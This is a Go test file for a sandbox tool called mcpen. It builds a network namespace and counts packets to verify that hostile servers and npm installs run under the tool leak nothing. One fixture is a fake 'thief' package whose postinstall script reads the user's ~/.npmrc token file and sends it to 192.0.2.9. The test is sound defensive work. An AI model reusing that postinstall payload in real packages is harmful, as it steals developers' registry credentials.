package main

import (
	"bytes"
	"encoding/binary"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/vishvananda/netlink"
	"golang.org/x/sys/unix"
)

// A thief's packets stay on this machine, to the last one: the test counts them on every
// interface outside the sandbox, the loopback's among them, for each of the hostile
// servers. It sees those of the same programs without mcpen. An install contacts its
// registry alone.
func TestTryNothingLeaves(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("not root: nobody else may listen to an interface")
	}
	root, err := os.MkdirTemp("", "mcpen-script-")
	if err != nil {
		t.Fatal(err)
	}
	defer os.RemoveAll(root)
	w := newWorld(t, filepath.Join(root, "home"))
	w.write(t, "server/server.py", tryServer)
	trials(t, hostile, func(t *testing.T, what string, _ [2]string) {
		var out []byte
		seen, _ := sniffed(t, func(run func(*exec.Cmd) error) (registry int) {
			cmd := w.mcpen(t, "try", "--watch", "200ms", "--", "python3", "server/server.py", what)
			var b bytes.Buffer
			cmd.Stdout = &b
			_ = run(cmd) // exit status 3
			out = b.Bytes()
			return 0
		})
		if seen > 0 || !strings.Contains(string(out), "RED") {
			t.Errorf("%d packets left:\n%s", seen, out)
		}
	})
	for _, what := range []string{"metadata", "scans", "scans_around"} {
		seen, _ := sniffed(t, func(run func(*exec.Cmd) error) int {
			_ = run(exec.Command("timeout", "3", "python3", filepath.Join(w.home, "server/server.py"), what)) // its end is nobody's matter
			return 0
		})
		if seen == 0 {
			t.Errorf("%s: outside the sandbox nothing was seen either: the test cannot tell", what)
		}
	}
	var out []byte
	others, registry := sniffed(t, func(run func(*exec.Cmd) error) int {
		w := newWorld(t, filepath.Join(root, "installs")) // its registry listens in this namespace
		w.server("thief", "1.0.0", longAgo(), map[string]any{"scripts": map[string]string{"postinstall": "node post.js"}},
			map[string]string{"post.js": "require('http').get('http://192.0.2.9/' + require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'hex')).on('error', () => {})"})
		cmd := w.mcpen(t, "try", "--watch", "200ms", "--scripts", "npm:thief")
		var b bytes.Buffer
		cmd.Stdout = &b
		_ = run(cmd) // exit status 3
		out = b.Bytes()
		return w.reg.Listener.Addr().(*net.TCPAddr).Port
	})
	if others > 0 || registry == 0 || !strings.Contains(string(out), "RED") || !strings.Contains(string(out), "npm token") {
		t.Errorf("the install: %d packets went to the registry, and %d to others:\n%s", registry, others, out)
	}
}

// sniffed runs commands in a network namespace whose default route leads to a listener,
// and counts the packets on every interface: those of the registry that listens on a port
// of the namespace, and the others. The functions' caller is a thread of that namespace.
func sniffed(t *testing.T, do func(run func(*exec.Cmd) error) (registry int)) (others, registry int) {
	t.Helper()
	type counts struct{ others, registry int }
	seen := make(chan counts)
	go func() {
		// Never unlocked: the thread, and with it the namespace, ends here.
		runtime.LockOSThread()
		none := counts{-1, -1}
		seen <- func() counts {
			if err := unix.Unshare(unix.CLONE_NEWNET); err != nil {
				t.Errorf("cannot make a network namespace: %v", err)
				return none
			}
			if err := dummyNetwork(); err != nil {
				t.Errorf("cannot make a network: %v", err)
				return none
			}
			all := int(uint16(unix.ETH_P_ALL)>>8 | uint16(unix.ETH_P_ALL)<<8)
			fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW|unix.SOCK_CLOEXEC|unix.SOCK_NONBLOCK, all)
			if err != nil {
				t.Errorf("cannot listen to the interfaces: %v", err)
				return none
			}
			defer unix.Close(fd)
			time.Sleep(300 * time.Millisecond)
			drained(fd, 0) // the interfaces' own packets when they come up
			port := do(func(cmd *exec.Cmd) error { return cmd.Run() })
			others, registry := drained(fd, port)
			return counts{others, registry}
		}()
	}()
	n := <-seen
	return n.others, n.registry
}

// dummyNetwork has a loopback and an interface that leads nowhere, which carries
// everything. It speaks IPv4 alone: in IPv6 the kernel itself sends packets.
func dummyNetwork() error {
	_ = os.WriteFile("/proc/thread-self/root/proc/sys/net/ipv6/conf/default/disable_ipv6", []byte("1"), 0o644)
	lo, err := netlink.LinkByName("lo")
	if err != nil {
		return err
	}
	if err := netlink.LinkSetUp(lo); err != nil {
		return err
	}
	out := &netlink.Veth{LinkAttrs: netlink.LinkAttrs{Name: "out0"}, PeerName: "far0"}
	if err := netlink.LinkAdd(out); err != nil {
		return err
	}
	at, err := netlink.ParseAddr("10.99.0.1/24")
	if err != nil {
		return err
	}
	if err := netlink.AddrAdd(out, at); err != nil {
		return err
	}
	if err := netlink.LinkSetUp(out); err != nil {
		return err
	}
	far, err := netlink.LinkByName("far0")
	if err != nil {
		return err
	}
	if err := netlink.LinkSetUp(far); err != nil {
		return err
	}
	return netlink.RouteAdd(&netlink.Route{LinkIndex: out.Attrs().Index, Gw: net.IPv4(10, 99, 0, 2)})
}

// drained is how many packets of IP wait: those to and from a registry's port, and the
// others. With a registry, the loopback also carries one more service: mcpen's mirror,
// through which an installer sees the registry.
func drained(fd, registry int) (others, registries int) {
	mirror := 0
	b := make([]byte, 64<<10)
	for {
		k, err := unix.Read(fd, b)
		if err != nil {
			return others, registries
		}
		if k <= 14 || b[12] != 8 { // neither IPv4 nor ARP
			continue
		}
		from, to, flags := segment(b[13:k])
		if registry == 0 || from == 0 {
			others++
			continue
		}
		if mirror == 0 && flags&0x12 == 2 && to != registry { // its first SYN (RFC 9293, section 3.1)
			mirror = to
		}
		switch {
		case from == registry, to == registry:
			registries++
		case from != mirror && to != mirror:
			others++
		}
	}
}

// segment reads the ports and the flags of a TCP segment of the loopback, behind the low
// byte of its EtherType; 0 for anything else.
func segment(b []byte) (from, to int, flags byte) {
	if b[0] != 0 || len(b) < 21 { // not IPv4
		return 0, 0, 0
	}
	p := b[1:]
	head := int(p[0]&15) * 4
	if p[9] != unix.IPPROTO_TCP || p[12] != 127 || p[16] != 127 || len(p) < head+14 {
		return 0, 0, 0
	}
	return int(binary.BigEndian.Uint16(p[head:])), int(binary.BigEndian.Uint16(p[head+2:])), p[head+13]
}
